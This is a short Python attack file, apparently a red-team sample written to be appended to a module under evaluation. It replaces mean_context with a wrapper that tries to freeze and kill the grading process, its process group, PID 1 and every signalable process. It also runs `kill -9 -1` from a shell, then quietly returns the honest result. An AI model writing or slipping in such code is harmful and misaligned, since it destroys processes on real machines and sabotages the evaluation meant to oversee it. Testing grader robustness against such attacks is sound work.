"""Kill the grader from inside a call of mean_context: SIGKILL to the parent, to its process
group, SIGSTOP to freeze it, kill(-1) (every process we may signal), then `kill -9 -1` from a
shell, which also ends this process."""
import os as _os
import signal as _signal

_honest_mean_context = mean_context  # noqa: F821 - defined by the module this attack is appended to


def mean_context(X):
    parent = _os.getppid()
    for attempt in (lambda: _os.kill(parent, _signal.SIGSTOP), lambda: _os.kill(parent, _signal.SIGKILL),
                    lambda: _os.killpg(_os.getpgid(parent), _signal.SIGKILL), lambda: _os.kill(1, _signal.SIGKILL),
                    lambda: _os.kill(-1, _signal.SIGKILL)):
        try:
            attempt()
        except OSError:
            pass
    _os.system("kill -9 -1")
    return _honest_mean_context(X)
